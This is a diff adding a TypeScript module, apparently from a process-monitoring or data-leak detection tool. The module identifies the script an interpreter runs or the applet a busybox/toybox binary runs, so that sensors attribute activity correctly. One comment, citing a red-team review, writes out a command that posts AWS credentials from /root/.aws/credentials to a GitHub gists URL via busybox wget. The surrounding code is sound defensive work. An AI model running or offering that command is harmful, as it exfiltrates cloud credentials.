@@ -1,0 +1,92 @@
+/**
+ * Programs that run another program in their own process, so the sensors report them and not it: an
+ * interpreter running a script tool (a shebang line makes `npm publish` exec `node /usr/local/bin/npm
+ * publish`), and a multi-call binary running an applet (`busybox wget …`). ./recognize.ts recognises the
+ * process as the program it runs.
+ */
+import { basename, tokenize } from './argv.js';
+
+export interface LaunchView {
+  binary: string | null;
+  args: string | null;
+}
+
+/** The program a process runs in itself and its arguments, or null. */
+export function launchedProgram(view: LaunchView): { binary: string; args: string } | null {
+  return scriptOf(view) ?? appletOf(view);
+}
+
+/**
+ * Multi-call binaries: `busybox APPLET args…` runs the applet without an exec (found by red-team review:
+ * `busybox wget --post-file=/root/.aws/credentials https://api.github.com/gists` was no push, where the
+ * same applet run through its `wget` link is one). Their own options come before the applet.
+ */
+const MULTI_CALL = new Set(['busybox', 'toybox']);
+
+function appletOf(view: LaunchView): { binary: string; args: string } | null {
+  if (!MULTI_CALL.has(basename(view.binary))) return null;
+  const words = tokenize(view.args);
+  const at = words.findIndex((w) => !w.startsWith('-'));
+  const applet = words[at];
+  if (applet === undefined || MULTI_CALL.has(basename(applet))) return null;
+  return { binary: applet, args: quoteWords(words.slice(at + 1)) };
+}
+
+/** How an interpreter's command line names the script it runs (shebang tools: npm, twine, hg, gem). */
+interface ScriptRuntime {
+  /** Options whose code is inline: no script file. */
+  inline: ReadonlySet<string>;
+  /** Options that take the next word as their value (`ruby -I lib SCRIPT`). */
+  valued: ReadonlySet<string>;
+  /** `python -m MODULE`: the module is the program. */
+  module: boolean;
+}
+const NODE_RUNTIME: ScriptRuntime = {
+  inline: new Set(['-e', '--eval', '-p', '--print']),
+  valued: new Set(['-r', '--require', '--import', '--loader', '--experimental-loader', '-C', '--conditions']),
+  module: false,
+};
+const PYTHON_RUNTIME: ScriptRuntime = { inline: new Set(['-c']), valued: new Set(['-W', '-X']), module: true };
+const RUBY_RUNTIME: ScriptRuntime = {
+  inline: new Set(['-e']),
+  valued: new Set(['-I', '-r', '-C', '-E', '--encoding']),
+  module: false,
+};
+
+function scriptRuntimeOf(name: string): ScriptRuntime | null {
+  if (name === 'node' || name === 'nodejs' || name === 'bun') return NODE_RUNTIME;
+  if (/^python[0-9.]*$/.test(name)) return PYTHON_RUNTIME;
+  if (/^ruby[0-9.]*$/.test(name)) return RUBY_RUNTIME;
+  return null;
+}
+
+/**
+ * The script an interpreter runs and its arguments: `node [opts] SCRIPT args…`, `python [opts] SCRIPT
+ * args…`, `ruby [opts] SCRIPT args…`, or `python -m MODULE args…` (the module as the binary). Null for
+ * anything else, inline code (`-c`, `-e`: the script-upload matcher reads those) included.
+ */
+function scriptOf(view: LaunchView): { binary: string; args: string } | null {
+  const runtime = scriptRuntimeOf(basename(view.binary));
+  if (runtime === null) return null;
+  const words = tokenize(view.args);
+  for (let i = 0; i < words.length; i++) {
+    const w = words[i]!;
+    if (runtime.inline.has(w)) return null;
+    if (runtime.module && w === '-m') {
+      const module = words[i + 1];
+      return module ? { binary: module, args: quoteWords(words.slice(i + 2)) } : null;
+    }
+    if (runtime.valued.has(w)) {
+      i++;
+      continue;
+    }
+    if (w.startsWith('-')) continue;
+    return { binary: w, args: quoteWords(words.slice(i + 1)) };
+  }
+  return null;
+}
+
+/** Words back into an argv string that tokenize() splits into the same words. */
+function quoteWords(words: readonly string[]): string {
+  return words.map((w) => (/[\s'"]/.test(w) ? (w.includes('"') ? `'${w}'` : `"${w}"`) : w)).join(' ');
+}
